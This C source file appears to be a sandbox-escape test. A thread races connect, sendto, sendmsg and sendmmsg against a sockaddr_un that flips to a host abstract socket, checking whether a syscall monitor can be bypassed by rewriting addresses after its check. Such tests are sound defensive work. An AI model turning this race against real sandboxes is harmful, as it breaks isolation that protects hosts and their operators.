/* A socket address rewritten by a second thread after the check: the
 * thread flips a shared sockaddr_un between a harmless pathname (a socket
 * that does not exist) and the host's abstract socket (ESC_ABSTRACT, whose
 * listener sends the token; ESC_ABSTRACT-dgram answers a datagram with the
 * token) while the main thread calls connect, sendto, sendmsg (the
 * msghdr's name pointer flipping between none and the abstract address)
 * and sendmmsg on it. A monitor that checks the address in guest memory
 * and lets the kernel read it again loses this race; one that acts on its
 * own copy does not. Natively in a network namespace of its own the
 * abstract name does not exist. ESC_ADDRFLIP_ONLY=N (0 connect, 1 sendto,
 * 2 sendmsg, 3 sendmmsg) tries that one alone, to see each can escape. */
#include "escape.h"

#include <pthread.h>
#include <stdatomic.h>
#include <stddef.h>
#include <sys/un.h>

#define SECONDS 1.5

static struct sockaddr_un flip_addr;
static struct sockaddr_un harmless, abstract;
static struct mmsghdr flip_mm; /* sendmsg uses its msg_hdr */
#define flip_msg flip_mm.msg_hdr
static struct iovec flip_iov = { .iov_base = "x", .iov_len = 1 };
static socklen_t abstract_len;
static atomic_int stop;

/* The empty asm statements keep each state a while and in this order. */
static void *flipper(void *arg)
{
	(void)arg;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		memcpy(&flip_addr, &abstract, sizeof(abstract));
		flip_msg.msg_name = &abstract;
		flip_msg.msg_namelen = abstract_len;
		for (int i = 0; i < 64; i++)
			__asm__ volatile("" ::: "memory");
		memcpy(&flip_addr, &harmless, sizeof(harmless));
		flip_msg.msg_name = NULL;
		flip_msg.msg_namelen = 0;
		for (int i = 0; i < 64; i++)
			__asm__ volatile("" ::: "memory");
	}
	return NULL;
}

static void flipping(pthread_t *t, const char *name)
{
	size_t n = strlen(name);

	memset(&abstract, 0, sizeof(abstract));
	abstract.sun_family = AF_UNIX;
	memcpy(abstract.sun_path + 1, name, n);
	abstract_len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n);
	memset(&harmless, 0, sizeof(harmless));
	harmless.sun_family = AF_UNIX;
	memcpy(harmless.sun_path, "./no-such-socket", sizeof("./no-such-socket"));
	memcpy(&flip_addr, &harmless, sizeof(harmless));
	atomic_store(&stop, 0);
	pthread_create(t, NULL, flipper, NULL);
}

static void stop_flipping(pthread_t t)
{
	atomic_store(&stop, 1);
	pthread_join(t, NULL);
}

/* A datagram socket with an autobound address, for the answer. */
static int dgram_socket(struct esc *e)
{
	int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
	sa_family_t fam = AF_UNIX;

	if (fd < 0)
		esc_die(e, "socket(AF_UNIX, SOCK_DGRAM)");
	if (bind(fd, (struct sockaddr *)&fam, sizeof(fam)) < 0)
		esc_die(e, "bind (autobind)");
	return fd;
}

/* The answer to a datagram that reached the host's listener. */
static void check_answer(struct esc *e, const char *what, int fd)
{
	char buf[256];
	ssize_t n = recv(fd, buf, sizeof(buf) - 1, MSG_DONTWAIT);

	if (n > 0) {
		buf[n] = '\0';
		if (!esc_record(e, what, buf, "the decoy", "other content"))
			esc_escaped(e, what);
	}
}

int main(int argc, char **argv)
{
	static const char *const what[4] = { "connect", "sendto", "sendmsg", "sendmmsg" };
	const char *name = getenv("ESC_ABSTRACT");
	char dname[128];
	long tries[4] = { 0 };
	int last[4] = { 0 };
	const char *only_s = getenv("ESC_ADDRFLIP_ONLY");
	int only = only_s ? atoi(only_s) : -1;
	struct esc e;
	pthread_t t;
	double end;
	int fd;

	esc_init(&e, "addrflip", argc, argv);
	if (!name)
		name = "umld-escape-none";
	snprintf(dname, sizeof(dname), "%s-dgram", name);

	/* connect: the address's bytes flip */
	flipping(&t, name);
	end = only < 0 || only == 0 ? esc_now() + SECONDS : 0;
	while (esc_now() < end && !e.escaped) {
		fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
		if (fd < 0)
			esc_die(&e, "socket(AF_UNIX)");
		for (int i = 0; i < 64 && !e.escaped; i++, tries[0]++) {
			if (connect(fd, (struct sockaddr *)&flip_addr, abstract_len) == 0) {
				char buf[256];
				ssize_t n = read(fd, buf, sizeof(buf) - 1);
				buf[n > 0 ? n : 0] = '\0';
				if (!esc_record(&e, "connect", buf, "the decoy", "other content"))
					esc_escaped(&e, "connect");
				break;
			}
			last[0] = errno;
		}
		close(fd);
	}
	stop_flipping(t);

	/* sendto, sendmsg and sendmmsg of datagrams: the bytes, then the
	 * msghdr's name */
	flipping(&t, dname);
	fd = dgram_socket(&e);
	flip_msg.msg_iov = &flip_iov;
	flip_msg.msg_iovlen = 1;
	for (int k = 1; k < 4 && !e.escaped; k++) {
		end = only < 0 || only == k ? esc_now() + SECONDS / 2 : 0;
		while (esc_now() < end && !e.escaped) {
			for (int i = 0; i < 64; i++, tries[k]++) {
				long r;
				if (k == 1) {
					r = sendto(fd, "x", 1, 0, (struct sockaddr *)&flip_addr,
						   abstract_len);
				} else if (k == 2) {
					r = sendmsg(fd, &flip_msg, 0);
				} else {
					r = sendmmsg(fd, &flip_mm, 1, 0);
				}
				if (r < 0)
					last[k] = errno;
			}
			check_answer(&e, what[k], fd);
		}
	}
	stop_flipping(t);
	usleep(100 * 1000);
	check_answer(&e, "a late answer", fd);
	close(fd);
	for (int k = 0; k < 4; k++)
		esc_note(&e, "%s: %ld tries, last error %s", what[k], tries[k],
			 last[k] ? esc_errname(last[k]) : "none");
	return esc_finish(&e);
}
